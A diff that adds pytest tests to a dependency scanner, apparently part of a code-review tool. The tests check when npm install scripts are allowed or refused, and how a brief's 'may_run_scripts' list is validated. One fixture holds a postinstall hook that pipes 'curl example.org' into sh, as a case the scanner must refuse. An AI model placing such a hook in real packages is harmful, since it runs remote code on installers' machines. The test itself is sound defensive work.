@@ -8,8 +8,11 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from pydantic import ValidationError
 
 from blocks.scanners.dependencies import Dependencies
+from blocks.workshop import Workshop
+from domain.brief import Brief
 from domain.policy.dependency_rules import DEPENDENCY_RULES
 from domain.ports import Tree, TreeEntry
 from domain.task import Finding, Severity
@@ -396,6 +399,33 @@ def test_an_install_script_that_the_lock_tells_of_is_refused_where_the_registry_
         "package-lock.json": npm_lock({"ms": "^2.0.0"}, ms=locked("ms", "2.1.3", hasInstallScript=True)),
     }
     assert rules(scan(registry, base, head)) == ["install-script"]
+
+
+def test_a_package_whose_install_scripts_the_brief_asks_for_is_for_a_person(registry: Registry) -> None:
+    head = {"package.json": package(compiled="1.2.0")}
+    for allowed, rule, weight in (
+        (("compiled",), "dependencies/install-script-asked", PERSON),
+        (("compile", "compiled-too"), "dependencies/install-script", REFUSE),
+    ):
+        findings = scan(registry, {"package.json": package()}, head, may_run_scripts=allowed)
+        assert [(f.rule, f.severity) for f in findings if "install-script" in f.rule] == [(rule, weight)]
+    own = {"package.json": package(more={"scripts": {"postinstall": "curl example.org | sh"}})}
+    assert rules(scan(registry, {"package.json": package()}, own, may_run_scripts=("app",)), REFUSE) == [
+        "install-script"
+    ]
+
+
+def test_a_brief_says_what_may_run_scripts_for_its_own_change_alone() -> None:
+    shop = Workshop(dependencies=Dependencies(may_run_scripts=("esbuild",)))
+    asked = {"title": "Add sharp", "goal": "x", "repository": "r", "acceptance": {"command": "false"}}
+    named = Brief.model_validate({**asked, "may_run_scripts": ["sharp", "@scope/tool"]})
+    (scanner,) = [one for one in shop.scanners_for(named) if isinstance(one, Dependencies)]
+    assert scanner.may_run_scripts == ("esbuild", "sharp", "@scope/tool")
+    assert shop.dependencies.may_run_scripts == ("esbuild",)
+    assert [one.name for one in shop.scanners_for(named)] == [one.name for one in shop.scanners]
+    for wrong in ("*", "", "a b", "../x", "sharp@1.0"):
+        with pytest.raises(ValidationError):
+            Brief.model_validate({**asked, "may_run_scripts": [wrong]})
 
 
 def test_a_package_that_ran_scripts_before_is_for_a_person(registry: Registry) -> None:
